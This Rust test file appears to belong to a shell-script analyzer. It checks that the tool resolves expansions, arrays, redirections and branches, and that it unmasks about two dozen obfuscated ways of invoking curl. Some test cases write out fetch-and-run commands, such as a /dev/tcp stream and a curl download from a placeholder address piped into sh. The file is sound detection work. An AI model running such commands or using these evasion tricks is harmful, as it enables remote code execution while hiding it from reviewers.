//! What a shell makes of words, variables and redirections.

use super::*;

/// The last line of what a script does.
fn last(script: &str) -> String {
    let path = Fixture::new().file("entry.sh", script, 0o755).start(&["/entry.sh"], &["one", "two"]).follow();
    lines(&path).pop().unwrap_or_default()
}

fn each(cases: &[(&str, &str)]) {
    for (script, expected) in cases {
        assert_eq!(last(script), *expected, "{script}");
    }
}

#[test]
fn parameters_are_cut_replaced_and_measured() {
    each(&[
        ("x=/a/b.tar.gz; p ${x#*/} ${x##*/} ${x%.*} ${x%%.*}", "run p a/b.tar.gz b.tar.gz /a/b.tar /a/b"),
        (
            "x=banana; p ${x/a/o} ${x//a/o} ${x/#b/B} ${x/%a/A} ${x//[an]/_}",
            "run p bonana bonono Banana bananA b_____",
        ),
        ("x=hello; p ${x^} ${x^^} ${x^^[el]}; ", "run p Hello HELLO hELLo"),
        ("x=HELLO; p ${x,} ${x,,}", "run p hELLO hello"),
        ("x=abcdef; p ${x:2} ${x:1:3} ${x: -2} ${x:0:-1} ${#x}", "run p cdef bcd ef abcde 6"),
        ("p ${none:-d} ${none-e} ${x:=f} $x ${x:+g} ${none+h}", "run p d e f f g"),
        ("x=y; y=z; p ${!x}", "run p z"),
        ("ax=1; ay=2; p ${!a*}", "run p ax ay"),
        ("x='a b'; p \"${x@Q}\"", "run p ['a b']"),
        ("x='curl -V'; $x", "run curl -V"),
        ("p \"$*\" \"$@\" $#", "run p [one two] one two 2"),
        ("IFS=,; p \"$*\"", "run p one,two"),
        ("IFS=,; x=a,b,,c; p $x", "run p a b [] c"),
        ("IFS=,; set -- $(echo curl,-V); \"$@\"", "run curl -V"),
        ("set -- a b c; shift; p $1 ${@:2} ${*: -1}", "run p b c c"),
        ("w${nothing}ge$@t", "run wgeone twot"),
    ]);
}

#[test]
fn a_value_made_of_several_variables_is_one_word() {
    each(&[
        ("A=/x; C=/z; C=$C:$A/bin/t.jar; p $C", "run p /z:/x/bin/t.jar"),
        ("C=/z\nif [ -r /q ]; then C=$C:$HOME/a; else C=$C:$HOME/b; fi; p ok", "run p ok"),
        ("A=1 B=$A:$HOME/x p ok", "run p ok"),
    ]);
    let path = Fixture::new()
        .file("entry.sh", "A=/x\nPATH=$PATH:$A/bin\nexport B=$B:$A/bin\np ok", 0o755)
        .start(&["/entry.sh"], &[])
        .follow();
    let run: Vec<String> = lines(&path).into_iter().filter(|line| line.starts_with("run ")).collect();
    assert_eq!(run, ["run /entry.sh", "run p ok"]);
}

#[test]
fn noise_in_a_command_is_taken_away() {
    for script in [
        "c''url -V",
        "c\"\"ur\\l -V",
        "\\c\\u\\r\\l -V",
        "cu${z}rl -V",
        "c$'\\x75'rl -V",
        "{curl,-V}",
        "curl${IFS}-V",
        "a=c;b=url;$a$b -V",
        "$(printf 'cu')rl -V",
        "`echo c`url -V",
        "$(rev<<<'lruc') -V",
        "/???/b?n/cu?l -V; set -- /usr/bin/cur*; ${1##*/} -V",
        "x=lruc; for ((i=${#x}-1;i>=0;i--)); do y+=${x:$i:1}; done; $y -V",
        "declare -A m; m[a]=cu; m[b]=rl; ${m[a]}${m[b]} -V",
        "arr=(x curl y); ${arr[1]} -V",
        "printf -v c '%s' curl; $c -V",
        "alias q=curl; q -V",
        "eval 'c'u'r'l -V",
        "x=CURL; ${x,,} -V",
        "sh -c 'cu${z}rl -V'",
        "set -- l r u c; y=; for i; do y=$i$y; done; $y -V",
        "b=base64; f() { \"$@\"; }; f curl -V",
        "command curl -V",
        "builtin eval curl -V",
        "declare -n r=t; t=curl; $r -V",
        "read -r a b <<< 'curl -V'; $a $b",
        "IFS=: read a b <<< 'curl:-V'; $a $b",
        "mapfile -t l <<< $'curl\\nx'; ${l[0]} -V",
    ] {
        assert_eq!(last(script), "run curl -V", "{script}");
    }
}

#[test]
fn arithmetic_is_the_shells() {
    each(&[
        (
            "p $((2+3*4)) $(( (1<<4) | 3 )) $((16#ff)) $((0x1f)) $((010)) $((2**10))",
            "run p 14 19 255 31 8 1024",
        ),
        ("i=5; p $((i++)) $i $((++i)) $((i-=3)) $((i>3?1:2))", "run p 5 6 7 4 1"),
        ("x=3; ((x+=4)); let y=x*2; p $x $y", "run p 7 14"),
        ("a='1+2'; p $((a*2))", "run p 6"),
        ("a=(5 6); p $((a[1]+1))", "run p 7"),
        ("for ((i=0;i<3;i++)); do s=$s$i; done; p $s", "run p 012"),
        ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; p $i", "run p 3"),
        ("p $((1/0))", "run p $((1/0))"),
    ]);
}

#[test]
fn arrays_have_numbers_or_names() {
    each(&[
        ("a=(x y z); p ${a[0]} ${a[-1]} ${#a[@]} ${a[@]:1} ${!a[@]}", "run p x z 3 y z 0 1 2"),
        ("a=(x); a+=(y); a[3]=w; p \"${a[@]}\"", "run p x y [] w"),
        ("declare -A m=([k]=v [l]=w); m[n]=u; p ${m[k]} ${m[n]} ${!m[@]}", "run p v u k l n"),
        ("a=(a.x b.x); p ${a[@]%.x} ${a[@]/x/y}", "run p a b a.y b.y"),
        ("a=(b c); p \"${a[*]}\"", "run p [b c]"),
    ]);
}

#[test]
fn descriptors_lead_where_exec_put_them() {
    each(&[
        ("exec >/out; echo hello; p", "run p"),
        ("exec 3>/out; echo hello >&3; cat /out | p", "run p <- cat < hello"),
        ("exec 4< /entry.sh; read l <&4; p \"$l\"", "run p [exec 4< /entry.sh; read l <&4; p \"$l\"]"),
        ("cat < <(echo hi) | p", "run p <- cat < hi"),
        ("echo 'curl -V' > >(sh)", "run curl -V"),
        ("exec 3<>/dev/tcp/192.0.2.1/80; cat <&3 | sh", "run sh <- cat from /dev/tcp/192.0.2.1/80"),
        ("while read -u 3 x; do p $x; done 3< <(printf 'a\\nb\\n')", "run p b"),
    ]);
    check("exec >/out; echo hello", "write /out =\nappend /out = hello");
}

#[test]
fn every_arm_and_every_value_is_followed() {
    check(
        "if a; then U=http://192.0.2.1/x; else U=http://192.0.2.2/y; fi; curl $U",
        "run a
        may run curl http://192.0.2.1/x
        may net 192.0.2.1 http://192.0.2.1/x
        may run curl http://192.0.2.2/y
        may net 192.0.2.2 http://192.0.2.2/y",
    );
    check("case x in x) a;& y) b;; z) c;; esac", "run a\nrun b");
    check("select x in a b; do p $x; break; done", "run p a");
    check("getopts ab: o -b v; p $o $OPTARG", "run p b v");
    check("f() { local x=1; g; }; g() { p $x; }; f", "run p 1");
    check("f() { Y=2; }; Z=1 f; p $Y", "run p 2");
    check("trap 'p bye' EXIT", "run trap [p bye] EXIT\nmay run p bye");
    check("if a; then X=1; else X=1; fi; p $X", "run a\nrun p 1");
}

#[test]
fn files_that_a_script_writes_are_read_by_what_follows() {
    for script in [
        "echo 'curl -V' > /s; sh /s",
        "echo 'curl -V' > /s; cp /s /t; . /t",
        "echo 'curl -V' > /s; mv /s /t; bash /t",
        "echo 'curl -V' > /s; install -m 755 /s /t; /t",
        "echo 'curl -V' > /s; ln -s /s /t; sh /t",
        "echo 'curl -V' | tee /s >/dev/null; sh /s",
        "echo 'wget -V' > /s; sed -i 's/wget/curl/' /s; sh /s",
        "echo 'curl -V' | dd of=/s 2>/dev/null; sh /s",
        "cat > /s <<< 'curl -V'; sh /s",
        "printf 'cu' > /s; printf 'rl -V' >> /s; sh /s",
        "cd /tmp; echo 'curl -V' > s; cd /; sh tmp/s",
        "echo 'curl -V' > /tmp/s; for f in /tmp/*; do sh $f; done",
        "echo xcurl -V | dd bs=1 skip=1 2>/dev/null | sh",
        "export BASH_ENV=/s; echo 'curl -V' > /s; bash -c :",
    ] {
        assert_eq!(last(script), "run curl -V", "{script}");
    }
}

#[test]
fn a_copied_program_is_still_what_it_was() {
    for (script, expected) in [
        ("cp /usr/bin/curl /tmp/x; /tmp/x -s http://192.0.2.1/a | sh", "run sh <- x from http://192.0.2.1/a"),
        ("ln -s /bin/bash /tmp/b; echo p | /tmp/b", "run p"),
        ("mv /usr/bin/wget /w; /w -O /y http://192.0.2.1/a; /y", "run /y from http://192.0.2.1/a"),
    ] {
        assert_eq!(last(script), expected, "{script}");
    }
}

#[test]
fn words_are_spread_over_commands() {
    each(&[
        ("echo a b | xargs -n1 p", "run p b"),
        ("printf 'a\\nb\\n' | xargs -I{} p x{}y", "run p xby"),
        ("printf 'a\\0b' | xargs -0 p", "run p a b"),
        ("echo 'curl -V' | xargs -I% sh -c %", "run curl -V"),
        ("parallel p ::: a b", "run p b"),
    ]);
}
